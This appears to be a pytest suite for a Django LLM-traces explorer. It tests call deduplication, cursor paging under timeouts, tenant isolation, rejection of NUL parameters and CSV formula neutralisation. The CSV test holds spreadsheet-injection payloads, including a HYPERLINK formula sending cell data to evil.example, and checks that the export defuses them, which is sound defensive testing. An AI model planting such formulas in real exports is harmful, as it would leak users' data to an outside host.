"""The traces explorer against hostile input and hostile data (issue 9 items 2, 4, 5, 6, 7;
issue 8: one call counted once), through the Django test client on real PostgreSQL, with
spans sent through the real OTLP receiver by the real OpenTelemetry SDK where their shape
matters.
"""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import timedelta
from decimal import Decimal
from typing import Any
from urllib.parse import unquote

import pytest
from django.db import connection
from django.test import Client
from django.utils import timezone
from opentelemetry import trace
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import ReadableSpan, TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from opentelemetry.trace import SpanKind

from apps.accounts.models import Project
from apps.metrics.query import Query, Scope, run_query
from apps.telemetry.partitions import ensure_partitions_for
from tests.otlp_helpers import protobuf_body

pytestmark = pytest.mark.django_db

OPENLLMETRY = "opentelemetry.instrumentation.anthropic"
ANTHROPIC_SDK = "com.anthropic.sdk.python"
# sonnet 4.5: 200 uncached x $3 + 1000 cache read x $0.30 + 50 cache write x $3.75 + 300 out x $15, per M
ONE_CALL_USD = "0.005588"
TWO_CALLS_USD = "0.011175"


def _links(html: str) -> list[str]:
    return re.findall(r'href="/traces/([0-9a-f]{32})/"', html)


def _usage(scope: str) -> dict[str, Any]:
    """What OpenLLMetry 0.62 and the anthropic SDK 2.x put on their span of one messages.create."""
    attributes: dict[str, Any] = {
        "gen_ai.request.model": "claude-sonnet-4-5",
        "gen_ai.response.model": "claude-sonnet-4-5-20250929",
        "gen_ai.usage.input_tokens": 1250,
        "gen_ai.usage.output_tokens": 300,
        "gen_ai.usage.cache_read.input_tokens": 1000,
        "gen_ai.operation.name": "chat",
    }
    if scope == OPENLLMETRY:
        attributes |= {"gen_ai.system": "anthropic", "gen_ai.usage.cache_creation.input_tokens": 50}
    else:
        attributes |= {"gen_ai.provider.name": "anthropic", "gen_ai.usage.cache_write.input_tokens": 50}
    return attributes


def _traces(
    *roots: dict[str, Any],
    service: str = "support-api",
) -> list[ReadableSpan]:
    """One trace per dict: a root span (name, tenant, feature) with its calls, each call a
    list of instrumentation scopes that report it (two: OpenLLMetry's and the SDK's sibling
    spans with one response id) and an optional tenant of its own."""
    exporter = InMemorySpanExporter()
    provider = TracerProvider(resource=Resource.create({"service.name": service}))
    provider.add_span_processor(SimpleSpanProcessor(exporter))
    base = time.time_ns() - 30 * 60 * 10**9
    for n, spec in enumerate(roots):
        t0 = base + n * 10_000_000
        attributes = {key: spec[key] for key in ("tenant.id", "app.feature") if key in spec}
        root = provider.get_tracer("app").start_span(
            spec.get("name", "POST /chat"), kind=SpanKind.SERVER, start_time=t0, attributes=attributes
        )
        with trace.use_span(root, end_on_exit=False):
            for c, call in enumerate(spec.get("calls", [])):
                for s, scope in enumerate(call["scopes"]):
                    extra = {"tenant.id": call["tenant"]} if "tenant" in call else {}
                    extra |= {"gen_ai.response.id": f"msg_{n}_{c}"}
                    if "model" in call:
                        extra |= {"gen_ai.request.model": call["model"], "gen_ai.response.model": call["model"]}
                    span = provider.get_tracer(scope).start_span(
                        "anthropic.chat" if scope == OPENLLMETRY else "anthropic.messages.create",
                        kind=SpanKind.CLIENT,
                        start_time=t0 + 1_000_000 + c * 2_000_000 + s * 1_000,
                        attributes=_usage(scope) | extra,
                    )
                    span.end(end_time=t0 + 900_000_000 - s * 1_000)
        root.end(end_time=t0 + 950_000_000)
    provider.shutdown()
    return list(exporter.get_finished_spans())


def _ingest(client: Client, key: str, spans: list[ReadableSpan]) -> None:
    response = client.post(
        "/v1/traces",
        data=protobuf_body(spans),
        content_type="application/x-protobuf",
        headers={"Authorization": f"Bearer {key}"},
    )
    assert response.status_code == 200, response.content


def _csv_rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


# --- one call counted once (issue 8) -------------------------------------------------------


def test_a_call_reported_by_openllmetry_and_the_sdk_is_one_call_in_the_list_and_the_trace(
    client: Client, ingest_key: str, owner: Any
) -> None:
    _ingest(client, ingest_key, _traces({"tenant.id": "acme", "app.feature": "chat",
                                         "calls": [{"scopes": [OPENLLMETRY, ANTHROPIC_SDK]}]}))  # fmt: skip
    client.force_login(owner)
    (row,) = _csv_rows(client.get("/traces/?range=24h&format=csv"))
    assert (row["calls"], row["cost_usd"], row["models"]) == ("1", "0.0055875000", "claude-sonnet-4-5")
    # The query layer over the open edge (raw spans) says the same.
    now = timezone.now()
    (figures,) = run_query(Query(("requests", "cost_usd", "cache_write_tokens"), now - timedelta(hours=2), now),
                           Scope.everything()).rows  # fmt: skip
    assert (figures["requests"], figures["cost_usd"], figures["cache_write_tokens"]) == (1, Decimal("0.0055875"), 50)

    html = client.get(f"/traces/{row['trace_id']}/").content.decode()
    assert re.search(r'LLM calls</div><div class="value">1<', html)
    assert f"${ONE_CALL_USD}" in html and TWO_CALLS_USD not in html
    assert "same call as anthropic.chat" in html  # the SDK's span points at the call's span


# --- issue 9 item 2: deep pages cannot hold the database -----------------------------------


def _many_roots(project: Project, roots: int, *, tenant: str = "acme") -> str:
    """One trace of `roots` root spans (no parent) in the last hour, written in one statement."""
    now = timezone.now()
    ensure_partitions_for({(now - timedelta(hours=1)).date(), now.date()})
    with connection.cursor() as cur:
        cur.execute(
            """
            INSERT INTO telemetry_span (project_id, trace_id, span_id, start_time, end_time, duration_ms, name,
                                        kind, status_code, service_name, is_llm, tenant, feature)
            SELECT %(project)s, '0123456789abcdef0123456789abcdef'::uuid, n,
                   now() - interval '50 minutes' + n * interval '1 ms',
                   now() - interval '50 minutes' + n * interval '1 ms' + interval '5 ms', 5, 'poll', 2, 1,
                   'poller', false, %(tenant)s, 'poll'
            FROM generate_series(1, %(roots)s) AS n
            """,
            {"project": project.pk, "roots": roots, "tenant": tenant},
        )
    return "0123456789abcdef0123456789abcdef"


def _follow(client: Client, url: str, pages: int) -> tuple[list[list[str]], str]:
    """The trace links of `pages` pages, following each page's next link; the last page's html."""
    seen = []
    html = ""
    for _ in range(pages):
        html = client.get(url).content.decode()
        seen.append(_links(html))
        found = re.search(r'href="\?([^"]+)" rel="next"', html)
        if not found:
            break
        url = "/traces/?" + found.group(1).replace("&amp;", "&")
    return seen, html


def test_a_trace_of_thirty_thousand_roots_pages_by_cursor_under_a_tight_statement_timeout(
    client: Client, project: Project, owner: Any, settings: Any
) -> None:
    """The issue's shape: one trace whose roots fill the range. Every page does the same
    bounded work, so each answers well inside a 2 s statement timeout (a 503 would fail it),
    and page= by number is refused instead of scanning."""
    _many_roots(project, 30_000)
    settings.WEB_STATEMENT_TIMEOUT_MS = 2000
    client.force_login(owner)
    pages, html = _follow(client, "/traces/?range=24h", 4)
    assert [len(links) for links in pages] == [50, 50, 50, 50]
    assert "took too long" not in html
    # Each row counts the trace's calls over at most SPANS_PER_TRACE spans: flagged.
    assert "counted over its first" in html
    # The previous link of page 4 leads back to page 3's rows.
    prev = re.search(r'href="\?([^"]+)" rel="prev"', html)
    assert prev is not None
    back = client.get("/traces/?" + prev.group(1).replace("&amp;", "&")).content.decode()
    assert len(_links(back)) == 50
    for sort in ("duration", "shortest", "oldest"):
        pages, _ = _follow(client, f"/traces/?range=24h&sort={sort}", 2)
        assert [len(links) for links in pages] == [50, 50]

    response = client.get("/traces/?range=24h&page=10000")
    assert response.status_code == 400 and b"cursor" in response.content
    assert client.get("/traces/?range=24h&cursor=nonsense").status_code == 400
    assert client.get("/traces/?range=24h&cursor=2026-01-01T00:00:00_zz_1").status_code == 400
    assert client.get("/traces/?range=24h&dir=sideways").status_code == 400


def test_cursor_pages_cover_every_trace_once_in_order(client: Client, ingest_key: str, owner: Any) -> None:
    _ingest(client, ingest_key, _traces(*({"tenant.id": "acme", "app.feature": "chat"} for _ in range(120))))
    client.force_login(owner)
    pages, _ = _follow(client, "/traces/?range=24h", 5)
    assert [len(links) for links in pages] == [50, 50, 20]
    everything = [link for links in pages for link in links]
    assert len(set(everything)) == 120
    oldest, _ = _follow(client, "/traces/?range=24h&sort=oldest", 5)
    assert [link for links in oldest for link in links] == everything[::-1]


@pytest.mark.django_db(transaction=True)
def test_a_query_past_the_statement_timeout_answers_503_with_advice_and_ingest_is_not_limited(
    client: Client, project: Project, ingest_key: str, owner: Any, settings: Any
) -> None:
    # 30,000 roots to sort by duration: far longer than the 1 ms limit the test sets.
    _many_roots(project, 30_000)
    client.force_login(owner)
    settings.WEB_STATEMENT_TIMEOUT_MS = 1
    response = client.get("/traces/?range=24h&sort=duration")
    assert response.status_code == 503
    assert b"took too long" in response.content and b"Narrow the time range or add filters" in response.content
    api = client.get("/api/v1/metrics?metrics=requests&range=24h")
    assert api.status_code == 503 and "took too long" in api.json()["error"]
    # The OTLP receiver in the same process never runs under the limit.
    _ingest(client, ingest_key, _traces({"tenant.id": "acme", "calls": [{"scopes": [OPENLLMETRY]}]}))
    # Nor does anything after a page: the limit ends with its request.
    with connection.cursor() as cur:
        cur.execute("SHOW statement_timeout")
        assert cur.fetchone()[0] == "0"
    settings.WEB_STATEMENT_TIMEOUT_MS = 15000
    assert client.get("/traces/?range=24h").status_code == 200


# --- issue 9 item 5: the CSV never carries a formula ---------------------------------------


def test_the_traces_csv_neutralises_formulas(client: Client, ingest_key: str, owner: Any) -> None:
    hostile = {"name": "=1+1", "tenant.id": '=HYPERLINK("http://evil.example/?"&A1,"x")', "app.feature": "+cmd",
               "calls": [{"scopes": [OPENLLMETRY], "model": "-2+3"}]}  # fmt: skip
    _ingest(client, ingest_key, _traces(hostile, service="@svc"))
    client.force_login(owner)
    (row,) = _csv_rows(client.get("/traces/?range=24h&format=csv"))
    assert row["name"] == "'=1+1"
    assert row["tenant"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert row["feature"] == "'+cmd"
    assert row["service"] == "'@svc"
    assert row["models"] == "'-2+3"
    assert row["duration_ms"] == "950.000"  # numbers are left alone


# --- issue 9 item 6: a limited user sees only their tenants' spans -------------------------


def test_a_limited_user_never_sees_another_tenants_call(
    client: Client, ingest_key: str, owner: Any, outsider: Any
) -> None:
    """outsider sees only globex. An acme trace holding a globex call stays hidden (its root is
    acme's); a globex trace holding an acme call is listed with the globex call only."""
    _ingest(client, ingest_key, _traces(
        {"name": "acme root", "tenant.id": "acme", "app.feature": "chat",
         "calls": [{"scopes": [OPENLLMETRY], "tenant": "globex", "model": "globex-only-model"}]},
        {"name": "globex root", "tenant.id": "globex", "app.feature": "chat",
         "calls": [{"scopes": [OPENLLMETRY, ANTHROPIC_SDK]},
                   {"scopes": [OPENLLMETRY], "tenant": "acme", "model": "acme-secret-model"}]},
    ))  # fmt: skip
    client.force_login(owner)
    rows = {row["name"]: row for row in _csv_rows(client.get("/traces/?range=24h&format=csv"))}
    assert rows["acme root"]["calls"] == "1" and rows["globex root"]["calls"] == "2"
    acme_trace, globex_trace = rows["acme root"]["trace_id"], rows["globex root"]["trace_id"]
    assert "acme-secret-model" in rows["globex root"]["models"]

    client.force_login(outsider)
    rows = {row["name"]: row for row in _csv_rows(client.get("/traces/?range=24h&format=csv"))}
    assert set(rows) == {"globex root"}
    assert (rows["globex root"]["calls"], rows["globex root"]["models"]) == ("1", "claude-sonnet-4-5")
    assert rows["globex root"]["cost_usd"] == "0.0055875000"
    html = client.get("/traces/?range=24h").content.decode()
    assert "acme-secret-model" not in html and "globex-only-model" not in html and "acme root" not in html
    assert client.get(f"/traces/{acme_trace}/").status_code == 404  # not theirs
    page = client.get(f"/traces/{globex_trace}/").content.decode()
    assert "acme-secret-model" not in page and "1 span of other tenants left out" in page
    # The filters cannot reach other tenants' traces either.
    assert _links(client.get("/traces/?range=24h&tenant=acme").content.decode()) == []
    assert _links(client.get("/traces/?range=24h&model=acme-secret-model").content.decode()) == []


def test_the_acme_trace_for_the_outsider_is_hidden_but_owner_sees_it(
    client: Client, ingest_key: str, owner: Any, outsider: Any
) -> None:
    _ingest(
        client, ingest_key, _traces({"tenant.id": "acme", "calls": [{"scopes": [OPENLLMETRY], "tenant": "globex"}]})
    )
    client.force_login(outsider)
    assert _links(client.get("/traces/?range=24h").content.decode()) == []
    client.force_login(owner)
    (trace_hex,) = _links(client.get("/traces/?range=24h").content.decode())
    client.force_login(outsider)
    assert client.get(f"/traces/{trace_hex}/").status_code == 404


# --- issue 9 item 7: the service filter filters --------------------------------------------


def test_the_service_filter_lists_only_traces_through_that_service(client: Client, ingest_key: str, owner: Any) -> None:
    _ingest(client, ingest_key, _traces({"tenant.id": "acme", "calls": [{"scopes": [OPENLLMETRY]}]}, service="billing"))
    _ingest(client, ingest_key, _traces({"tenant.id": "acme"}, {"tenant.id": "acme"}, service="support-api"))
    client.force_login(owner)
    assert len(_links(client.get("/traces/?range=24h").content.decode())) == 3
    html = client.get("/traces/?range=24h&service=billing").content.decode()
    assert len(_links(html)) == 1 and "service: billing" in html
    assert len(_links(client.get("/traces/?range=24h&service=support-api").content.decode())) == 2
    assert _links(client.get("/traces/?range=24h&service=nowhere").content.decode()) == []


# --- issue 9 item 4: impossible moments and NUL characters ---------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "start=0001-01-01&end=0001-01-02",
        "start=9999-12-30&end=9999-12-31",
        "start=2026-01-01&end=9999-12-31",
        "range=24h&tenant=ac%00me",
        "range=24h&feature=%00",
        "range=24h&service=a%00",
        "range=24h&min_ms=1%00",
        "range=24h&cursor=%00",
        "range=24h&format=csv&model=x%00y",
        "range=24h&st%00atus=ok",
    ],
)
def test_hostile_parameters_answer_400_with_a_message(client: Client, owner: Any, query: str) -> None:
    client.force_login(owner)
    response = client.get(f"/traces/?{query}")
    assert response.status_code == 400, (unquote(query), response.status_code)
    assert b'class="error-box"' in response.content


def test_a_nul_trace_id_is_400_and_a_garbage_one_404(client: Client, owner: Any) -> None:
    # A NUL anywhere in a path is refused like on every page (checked_page: 400 with the
    # message); a well-formed but unknown or malformed id is simply no trace of theirs.
    client.force_login(owner)
    for path in ("/traces/ab%00cd/", "/traces/0123456789abcdef0123456789abcd%00/", "/traces/%00/"):
        response = client.get(path)
        assert response.status_code == 400, path
        assert b"may not contain NUL characters" in response.content
    for path in ("/traces/zz/", "/traces/0123456789abcdef0123456789abcdef/"):
        assert client.get(path).status_code == 404, path
